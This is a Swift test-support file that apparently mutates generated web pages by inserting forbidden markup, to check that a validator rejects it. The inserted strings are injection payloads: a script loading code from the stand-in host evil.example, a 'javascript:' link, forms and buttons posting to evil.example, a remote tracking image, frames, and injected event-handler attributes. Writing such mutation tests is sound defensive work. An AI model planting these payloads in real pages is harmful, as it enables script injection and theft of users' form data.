import TestSupport

/// What this program never writes, put into a page.
enum MarkupMutants {
  static func script(_ page: PageBytes, _ random: inout SeededChoice) -> Mutant? {
    added(
      page, &random,
      [
        "<script>document.title=1</script>", "<script src=\"https://evil.example/x.js\"></script>",
        "<script src=\"../../assets/x.js\"></script>", "<p><a href=\"javascript:alert(1)\">a</a></p>",
      ])
  }

  static func form(_ page: PageBytes, _ random: inout SeededChoice) -> Mutant? {
    added(
      page, &random,
      [
        "<form action=\"https://evil.example/\"><input name=\"mail\"></form>", "<p><input name=\"mail\"></p>",
        "<form class=\"search\"><input name=\"q\"></form>",
        "<p><button formaction=\"https://evil.example/\">Join</button></p>",
      ])
  }

  static func frame(_ page: PageBytes, _ random: inout SeededChoice) -> Mutant? {
    added(
      page, &random,
      [
        "<iframe src=\"x.html\"></iframe>", "<object data=\"x\"></object>", "<embed src=\"x\">",
        "<img src=\"https://evil.example/x.png\" alt=\"\">",
      ])
  }

  /// Between two parts of the page.
  private static func added(_ page: PageBytes, _ random: inout SeededChoice, _ markup: [String]) -> Mutant? {
    let places = page.places(of: "</section>") + page.places(of: "</header>") + [page.main.upperBound]
    let place = random.pick(places)
    return page.replacing(place..<place, with: random.pick(markup))
  }

  /// An attribute that runs something, or shows words in another way, on any tag.
  static func handler(_ page: PageBytes, _ random: inout SeededChoice) -> Mutant? {
    let places = ["<p", "<li", "<h2", "<a"].flatMap { tag in
      page.places(of: tag + " ").map { $0 + tag.utf8.count }
        + page.places(of: tag + ">").map { $0 + tag.utf8.count }
    }
    guard !places.isEmpty else { return nil }
    let place = random.pick(places)
    let attribute = random.pick([
      " onclick=\"x()\"", " ONMOUSEOVER=x()", " style=\"display:none\"", " onfocus='x()'", " contenteditable",
    ])
    return page.replacing(place..<place, with: attribute)
  }
}
